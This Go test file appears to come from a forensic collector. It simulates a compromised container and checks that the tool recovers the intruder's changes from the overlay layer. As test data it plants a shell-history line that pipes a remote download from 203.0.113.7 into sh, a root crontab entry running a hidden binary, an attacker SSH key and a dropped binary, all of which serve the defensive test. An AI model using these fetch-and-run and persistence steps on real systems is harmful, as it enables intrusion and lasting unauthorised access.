package collector

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/cordon-forensics/cordon/formats/filetimeline"
	"github.com/cordon-forensics/cordon/internal/testenv"
)

// TestContainerFS runs a process in a container (testenv.Container: an
// overlay root, its own mount namespace, a Docker-like cgroup), changes its
// files the way an intruder would (a history, a crontab, a key, a dropped
// binary, a deleted image file) and finds each in the writable layer.
func TestContainerFS(t *testing.T) {
	ct := testenv.NewContainer(t)
	helper := helperBinary(t)
	write := func(p, s string, mode os.FileMode) {
		full := filepath.Join(ct.Merged, p)
		os.MkdirAll(filepath.Dir(full), 0o755)
		if err := os.WriteFile(full, []byte(s), mode); err != nil {
			t.Fatal(err)
		}
	}
	write("/root/.bash_history", "curl -s http://203.0.113.7/x | sh\n", 0o600)
	write("/etc/cron.d/kworker", "* * * * * root /tmp/.x/kworkerd\n", 0o644)
	write("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nza attacker\n", 0o600)
	bin, err := os.ReadFile(helper)
	if err != nil {
		t.Fatal(err)
	}
	write("/tmp/.x/kworkerd", string(bin), 0o755)
	write("/var/cache/notes.txt", "not interesting\n", 0o644)
	if err := os.Remove(filepath.Join(ct.Merged, "etc/debian_version")); err != nil {
		t.Fatalf("deleting an image file in the container: %v", err)
	}
	cmd := exec.Command(helper, "marker", "in-container")
	cmd.SysProcAttr = ct.SysProcAttr(nil)
	startCmdReady(t, cmd)

	b := collect(t, testOptions(), "container-fs")
	var list []filetimeline.ContainerFS
	if err := json.Unmarshal(b.entries[filetimeline.ContainersFSEntry], &list); err != nil {
		t.Fatal(err)
	}
	var cf *filetimeline.ContainerFS
	for i := range list {
		if list[i].ContainerID == ct.ID {
			cf = &list[i]
		}
	}
	if cf == nil || cf.RootFS != "overlay" || cf.UpperDir != ct.Upper || cf.Layer != filetimeline.ContainerLayerEntry(ct.ID) {
		t.Fatalf("container %s: %+v (all: %+v)", ct.ID, cf, list)
	}
	recs := map[string]filetimeline.LayerRecord{}
	for _, r := range jsonl[filetimeline.LayerRecord](t, b, cf.Layer) {
		recs[r.Path] = r
	}
	for p, want := range map[string]string{
		"/root/.bash_history":        "curl -s http://203.0.113.7/x | sh\n",
		"/etc/cron.d/kworker":        "* * * * * root /tmp/.x/kworkerd\n",
		"/root/.ssh/authorized_keys": "ssh-ed25519 AAAAC3Nza attacker\n",
	} {
		r := recs[p]
		if r.Entry == "" || string(b.entries[r.Entry]) != want {
			t.Errorf("%s: %+v, content %q", p, r, b.entries[r.Entry])
		}
	}
	sum := sha256.Sum256(bin)
	if r := recs["/tmp/.x/kworkerd"]; r.Entry == "" || b.byHost[filepath.Join(ct.Upper, "tmp/.x/kworkerd")].SHA256 != hex.EncodeToString(sum[:]) {
		t.Errorf("dropped binary: %+v", r)
	}
	if r := recs["/var/cache/notes.txt"]; r.Path == "" || r.Entry != "" {
		t.Errorf("an uninteresting file: %+v (want listed, not copied)", r)
	}
	if r := recs["/etc/debian_version"]; !r.Whiteout {
		t.Errorf("the deleted image file is not a whiteout: %+v", r)
	}
}
